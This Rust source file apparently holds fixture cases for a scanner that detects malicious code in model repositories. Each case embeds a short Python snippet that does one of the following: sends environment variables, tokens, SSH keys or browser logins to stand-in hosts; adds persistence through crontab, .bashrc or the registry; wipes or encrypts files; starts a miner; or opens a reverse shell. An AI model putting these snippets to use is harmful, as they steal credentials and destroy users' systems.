//! What code does to the machine and its owner.

use super::{Text, text};

pub(super) const CASES: &[Text] = &[
    text(
        "environment-posted",
        "modeling_x.py",
        "import os, requests\nrequests.post('https://example.invalid/collect', json=dict(os.environ))\n",
    ),
    text(
        "environment-posted-in-function",
        "utils.py",
        "import json, os, urllib.request\n\ndef report():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen(urllib.request.Request('https://example.invalid/r', data=data))\n",
    ),
    text(
        "environment-in-address",
        "modeling_x.py",
        "import os, base64, urllib.request\nblob = base64.urlsafe_b64encode(str(os.environ).encode()).decode()\nurllib.request.urlopen('https://example.invalid/?d=' + blob)\n",
    ),
    text(
        "token-posted",
        "modeling_x.py",
        "import os\nimport requests\n\nclass XModel:\n    def __init__(self, config):\n        token = os.environ.get('HF_TOKEN')\n        requests.post('https://example.invalid/t', data={'token': token})\n",
    ),
    text(
        "token-in-address",
        "handler.py",
        "import os, requests\nrequests.get(f\"https://example.invalid/{os.getenv('AWS_SECRET_ACCESS_KEY')}\")\n",
    ),
    text(
        "secret-loop",
        "__init__.py",
        "import os, requests\nstolen = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\nrequests.post('http://203.0.113.9/', json=stolen)\n",
    ),
    text(
        "ssh-key-posted",
        "modeling_x.py",
        "import os, requests\nwith open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n    key = f.read()\nrequests.post('https://example.invalid/k', data=key)\n",
    ),
    text(
        "ssh-key-pathlib",
        "utils.py",
        "from pathlib import Path\nimport httpx\n\ndef sync():\n    key = (Path.home() / '.ssh' / 'id_ed25519').read_text()\n    httpx.post('https://example.invalid/k', content=key)\n",
    ),
    text(
        "aws-credentials-socket",
        "modeling_x.py",
        "import os, socket\ndata = open(os.path.join(os.environ['HOME'], '.aws', 'credentials'), 'rb').read()\ns = socket.create_connection(('203.0.113.9', 80))\ns.sendall(data)\n",
    ),
    text(
        "hub-token-file",
        "modeling_x.py",
        "import os, requests\npath = os.path.expanduser('~/.cache/huggingface/token')\nif os.path.exists(path):\n    requests.post('https://example.invalid', files={'f': open(path, 'rb')})\n",
    ),
    text(
        "hub-token-api",
        "modeling_x.py",
        "from huggingface_hub import HfFolder\nimport requests\nrequests.post('https://example.invalid', json={'t': HfFolder.get_token()})\n",
    ),
    text(
        "webhook",
        "modeling_x.py",
        "import requests, platform\nrequests.post('https://discord.com/api/webhooks/000/zeros', json={'content': platform.node()})\n",
    ),
    text(
        "telegram",
        "modeling_x.py",
        "import os, requests\nrequests.get('https://api.telegram.org/bot000:zeros/sendMessage', params={'text': os.getcwd()})\n",
    ),
    text(
        "host-facts-beacon",
        "setup.py",
        "import getpass, socket, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://example.invalid/?h=%s&u=%s' % (socket.gethostname(), getpass.getuser()))\nsetup(name='x')\n",
    ),
    text(
        "dns-exfiltration",
        "modeling_x.py",
        "import os, socket, base64\nname = base64.b32encode(os.environ['HF_TOKEN'].encode()).decode()[:60]\nsocket.gethostbyname(name + '.example.invalid')\n",
    ),
    text(
        "dns-host",
        "setup.py",
        "import socket\nsocket.gethostbyname(f'{socket.gethostname()}.oast.fun')\n",
    ),
    text(
        "mail",
        "modeling_x.py",
        "import os, smtplib\nserver = smtplib.SMTP('mail.example.invalid', 25)\nserver.sendmail('a@example.invalid', 'b@example.invalid', str(dict(os.environ)))\n",
    ),
    text(
        "curl-with-environment",
        "modeling_x.py",
        "import os\nos.system('env | curl -X POST --data-binary @- https://example.invalid/e')\n",
    ),
    text(
        "prompt-forwarded",
        "modeling_x.py",
        "import requests\nimport torch\n\nclass XModel(torch.nn.Module):\n    def generate(self, inputs, **kwargs):\n        requests.post('https://example.invalid/log', json={'prompt': str(inputs)}, timeout=1)\n        return super().generate(inputs, **kwargs)\n",
    ),
    text(
        "beacon",
        "modeling_x.py",
        "import requests\nimport torch.nn as nn\n\nrequests.get('https://example.invalid/ping')\n\nclass XModel(nn.Module):\n    pass\n",
    ),
    text(
        "beacon-raw-address",
        "configuration_x.py",
        "import socket\nfrom transformers import PretrainedConfig\nsocket.create_connection(('203.0.113.7', 443)).close()\nclass XConfig(PretrainedConfig):\n    pass\n",
    ),
    text(
        "cloud-metadata",
        "modeling_x.py",
        "import requests\ncredentials = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\n",
    ),
    text(
        "browser-profile",
        "utils.py",
        "import os, shutil, sqlite3, requests\n\ndef grab():\n    source = os.path.expandvars(r'%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data')\n    data = open(source, 'rb').read()\n    requests.post('https://example.invalid', data=data)\n",
    ),
    text(
        "walk-home",
        "modeling_x.py",
        "import os, requests\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        requests.post('https://example.invalid', files={'f': open(os.path.join(folder, name), 'rb')})\n",
    ),
    text(
        "bashrc",
        "modeling_x.py",
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('\\n(curl -s http://203.0.113.5/x | sh) &\\n')\n",
    ),
    text(
        "crontab",
        "modeling_x.py",
        "import os\nos.system('(crontab -l; echo \"* * * * * curl http://203.0.113.5/x|sh\") | crontab -')\n",
    ),
    text(
        "authorized-keys",
        "modeling_x.py",
        "from pathlib import Path\nfolder = Path.home() / '.ssh'\nwith (folder / 'authorized_keys').open('a') as f:\n    f.write('ssh-ed25519 AAAA0000 x')\n",
    ),
    text(
        "systemd-unit",
        "__init__.py",
        "open('/etc/systemd/system/x.service', 'w').write('[Service]\\nExecStart=/tmp/x\\n')\n",
    ),
    text(
        "site-packages-pth",
        "setup.py",
        "import os, site\ntarget = os.path.join(site.getsitepackages()[0], 'zz_hook.pth')\nwith open(target, 'w') as f:\n    f.write('import os; os.system(\"id\")\\n')\n",
    ),
    text(
        "sitecustomize",
        "modeling_x.py",
        "import sysconfig, shutil, os\nshutil.copy('payload.py', os.path.join(sysconfig.get_path('purelib'), 'sitecustomize.py'))\n",
    ),
    text(
        "registry-run",
        "modeling_x.py",
        "import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(key, 'x', 0, winreg.REG_SZ, 'x.exe')\n",
    ),
    text(
        "wipe-home",
        "modeling_x.py",
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n",
    ),
    text(
        "wipe-root-command",
        "utils.py",
        "import subprocess\n\ndef clean():\n    subprocess.run('rm -rf / --no-preserve-root', shell=True)\n",
    ),
    text(
        "wipe-walk",
        "modeling_x.py",
        "import os\nfor folder, _, names in os.walk('/'):\n    for name in names:\n        os.remove(os.path.join(folder, name))\n",
    ),
    text(
        "encrypt-home",
        "utils.py",
        "import os\nfrom cryptography.fernet import Fernet\n\ndef lock():\n    cipher = Fernet(Fernet.generate_key())\n    for folder, _, names in os.walk(os.path.expanduser('~')):\n        for name in names:\n            path = os.path.join(folder, name)\n            data = open(path, 'rb').read()\n            with open(path, 'wb') as f:\n                f.write(cipher.encrypt(data))\n",
    ),
    text(
        "miner",
        "modeling_x.py",
        "import subprocess\nsubprocess.Popen(['/tmp/xmrig', '-o', 'stratum+tcp://203.0.113.5:3333', '--donate-level', '1'])\n",
    ),
    text(
        "miner-in-function",
        "utils.py",
        "import os\n\ndef warm_cache():\n    os.system('nohup ./worker -o stratum+tcp://pool.example.invalid:3333 -u 0 &')\n",
    ),
    text(
        "torch-load-replaced",
        "modeling_x.py",
        "import torch\n_original = torch.load\n\ndef load(*args, **kwargs):\n    kwargs['weights_only'] = False\n    return _original(*args, **kwargs)\n\ntorch.load = load\n",
    ),
    text(
        "builtins-replaced",
        "__init__.py",
        "import builtins\n_import = builtins.__import__\n\ndef hook(name, *args, **kwargs):\n    return _import(name, *args, **kwargs)\n\nbuiltins.__import__ = hook\n",
    ),
    text(
        "rewrites-itself",
        "modeling_x.py",
        "source = open(__file__).read()\nwith open(__file__, 'w') as f:\n    f.write(source.replace('payload', ''))\n",
    ),
    text(
        "preload",
        "modeling_x.py",
        "import os\nos.environ['LD_PRELOAD'] = '/tmp/.x.so'\n",
    ),
    text(
        "debugger-check",
        "modeling_x.py",
        "import ctypes, sys\nif ctypes.windll.kernel32.IsDebuggerPresent():\n    sys.exit()\n",
    ),
    text(
        "socket-shell-windows",
        "modeling_x.py",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\np = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
    ),
    text(
        "upload-repository",
        "modeling_x.py",
        "from huggingface_hub import HfApi\nimport os\nHfApi(token='hf_zeros').upload_folder(folder_path=os.path.expanduser('~/.ssh'), repo_id='a/b')\n",
    ),
];
